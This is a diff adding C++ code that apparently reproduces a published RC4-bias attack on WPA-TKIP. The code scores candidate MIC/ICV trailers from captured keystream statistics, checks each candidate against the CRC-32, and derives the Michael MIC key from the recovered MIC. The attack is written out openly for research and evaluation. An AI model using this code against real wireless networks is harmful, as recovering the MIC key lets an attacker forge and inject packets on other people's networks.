@@ -1,0 +1,83 @@
+#include "src/tkip/attack.h"
+
+#include <cassert>
+#include <cstring>
+
+#include "src/crypto/crc32.h"
+
+namespace rc4b {
+
+SingleByteTables TkipTrailerLikelihoods(const TkipCaptureStats& stats,
+                                        const TkipTscModel& model) {
+  assert(stats.first_position() == model.first_position() &&
+         stats.last_position() == model.last_position());
+  const size_t positions = stats.position_count();
+  SingleByteTables tables(positions, std::vector<double>(256, 0.0));
+  for (size_t tsc1 = 0; tsc1 < 256; ++tsc1) {
+    for (size_t p = 0; p < positions; ++p) {
+      const size_t pos = stats.first_position() + p;
+      const uint64_t* counts = stats.Row(static_cast<uint8_t>(tsc1), pos);
+      const double* log_p = model.LogRow(static_cast<uint8_t>(tsc1), pos);
+      double* lambda = tables[p].data();
+      for (size_t mu = 0; mu < 256; ++mu) {
+        double sum = 0.0;
+        for (size_t c = 0; c < 256; ++c) {
+          sum += static_cast<double>(counts[c]) * log_p[c ^ mu];
+        }
+        lambda[mu] += sum;
+      }
+    }
+  }
+  return tables;
+}
+
+bool TkipTrailerConsistent(std::span<const uint8_t> msdu,
+                           std::span<const uint8_t> trailer) {
+  assert(trailer.size() == kTkipTrailerSize);
+  uint32_t state = Crc32Init();
+  state = Crc32Update(state, msdu);
+  state = Crc32Update(state, trailer.subspan(0, 8));
+  const uint32_t crc = Crc32Final(state);
+  return crc == LoadLe32(trailer.data() + 8);
+}
+
+TkipAttackResult RecoverTkipTrailer(std::span<const uint8_t> known_msdu,
+                                    const SingleByteTables& likelihoods,
+                                    uint64_t max_candidates,
+                                    std::span<const uint8_t> true_trailer,
+                                    const TkipPeer& peer) {
+  assert(likelihoods.size() == kTkipTrailerSize);
+  TkipAttackResult result;
+
+  // Precompute the CRC state over the fixed MSDU once; each candidate only
+  // folds in its 8 MIC bytes.
+  uint32_t msdu_state = Crc32Init();
+  msdu_state = Crc32Update(msdu_state, known_msdu);
+
+  LazyCandidateEnumerator enumerator(likelihoods);
+  for (uint64_t n = 0; n < max_candidates; ++n) {
+    const Candidate candidate = enumerator.Next();
+    const std::span<const uint8_t> trailer(candidate.plaintext);
+    const uint32_t crc = Crc32Final(Crc32Update(msdu_state, trailer.subspan(0, 8)));
+    if (crc != LoadLe32(trailer.data() + 8)) {
+      continue;
+    }
+    result.found = true;
+    result.candidates_tried = n + 1;
+    result.trailer = candidate.plaintext;
+    result.correct = !true_trailer.empty() &&
+                     true_trailer.size() == trailer.size() &&
+                     std::memcmp(true_trailer.data(), trailer.data(),
+                                 trailer.size()) == 0;
+    // Derive the Michael key from the recovered MIC (Sect. 5.3 / [44]):
+    // MIC = Michael(key, DA || SA || prio || 0^3 || msdu), inverted exactly.
+    const auto header = MichaelHeader(peer.da, peer.sa, peer.priority);
+    Bytes authenticated(header.begin(), header.end());
+    authenticated.insert(authenticated.end(), known_msdu.begin(), known_msdu.end());
+    result.mic_key = MichaelRecoverKey(authenticated, trailer.subspan(0, 8));
+    return result;
+  }
+  return result;
+}
+
+}  // namespace rc4b
